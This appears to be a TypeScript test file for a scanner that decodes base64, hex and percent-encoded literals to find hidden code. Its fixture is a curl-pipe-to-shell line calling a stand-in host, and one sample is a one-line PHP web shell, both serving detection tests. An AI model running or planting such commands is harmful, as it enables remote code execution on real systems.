import assert from 'node:assert/strict'
import { decodedLiterals } from '../../../server/core/embedded/decodedLiterals'
import { findCode } from './findCode'

const script = 'curl -s x.invalid/y | sh; echo done\n'
const base64 = (text: string) => Buffer.from(text).toString('base64')
const hex = (text: string) => Buffer.from(text).toString('hex')
const find = (text: string, path = 'file') => findCode(decodedLiterals, undefined, path, text)

describe('literals that are decoded', () => {
  const encoded: readonly (readonly [name: string, written: string, decoding: string])[] = [
    ['base64', base64(script), 'base64'],
    ['base64 for addresses', Buffer.from(`${script}???>>>`).toString('base64url'), 'base64'],
    ['UTF-16', Buffer.from(script, 'utf16le').toString('base64'), 'base64'],
    ['hexadecimal digits', hex(script), 'hex'],
    ['escapes', hex(script).replace(/../g, '\\x$&'), 'hex'],
    [
      'bytes',
      hex(script)
        .replace(/..(?!$)/g, '0x$&, ')
        .replace(/..$/, '0x$&'),
      'hex',
    ],
    ['percent escapes', hex(script).replace(/../g, '%$&'), 'percent'],
  ]
  for (const [name, written, decoding] of encoded) {
    it(`reads ${name} and points at the whole literal`, async () => {
      const found = await find(`x = "${written}"; y\n`)
      const [unit] = found.units
      assert.ok(unit !== undefined)
      assert.ok(unit.body.text.startsWith(script.trim()))
      assert.deepEqual([unit.language, unit.role, unit.decoding], ['bash', 'decoded', decoding])
      assert.equal(found.written(unit.span), written)
      assert.equal(found.written(unit.spanOf(3, 5)), written)
    })
  }

  it('reads blocks over several lines and literals put together', async () => {
    const whole = base64(script.repeat(5))
    const lines = whole.match(/.{1,64}/g) ?? []
    for (const text of [
      `base64 -d <<EOF\n${lines.join('\n')}\nEOF\n`,
      `x = "${lines.join('" +\n  "')}"`,
      `x = ["${lines.join('", "')}"]`,
    ]) {
      const found = await find(text)
      assert.deepEqual(found.texts, [script.repeat(5)])
      assert.ok(found.written(found.units[0]?.span ?? assert.fail()).startsWith(whole.slice(0, 64)))
    }
  })

  it('reads what was encoded twice', async () => {
    const found = await find(base64(`echo ${base64(script)} | base64 -d`))
    assert.deepEqual(
      found.units.map(({ depth, decodings, body }) => [depth, decodings.length, body.text.slice(0, 4)]),
      [
        [1, 1, 'echo'],
        [2, 2, 'curl'],
      ],
    )
  })

  it('guesses languages', async () => {
    const guesses: readonly (readonly [string, string | undefined])[] = [
      ['#!/usr/bin/env python3\nprint("hello")\n', 'python'],
      ['import os\nprint(os.environ["HOME"])\n', 'python'],
      ['const x = require("fs"); x.readFileSync("y")', 'javascript'],
      ['<?php echo shell_exec($_GET["x"]); ?>', 'php'],
      ['{"alg":"HS256","typ":"JWT","kid":1}', 'json'],
      ['just a sentence that means nothing', undefined],
    ]
    for (const [text, language] of guesses) assert.equal((await find(base64(text))).units[0]?.language, language, text)
  })

  it('leaves hashes, keys, identifiers and the alphabet alone', async () => {
    const none = [
      'sha512-kXhkQjRTMsUH5zjIfaBvpSkfgKMIy4gLxBGJVRXvcGEAjNCRAHsHPQzzoNmRoxLKCGLTxkrJvfPqkwRWhLQdFw==',
      'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
      '123e4567-e89b-12d3-a456-426614174000',
      'thisIsQuiteALongIdentifierOfSomeJavaProgramFactoryBean',
      'SOME_VERY_LONG_CONSTANT_NAME_OF_A_HEADER_FILE_IN_C',
      'src/main/java/org/example/project/module/Implementation',
      'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/',
      '-'.repeat(80),
      '0'.repeat(80),
      '20'.repeat(40),
      'AAAAB3NzaC1yc2EAAAADAQABAAABgQDBd0ZL0Qn6m3yqPpVq7bZk',
      '%E4%B8%AD%E6%96%87%E7%BB%B4%E5%9F%BA%E7%99%BE%E7%A7%91',
    ]
    for (const text of none) assert.deepEqual((await find(text)).texts, [], text)
    assert.deepEqual((await find(base64(script), 'sub/yarn.lock')).texts, [])
  })
})
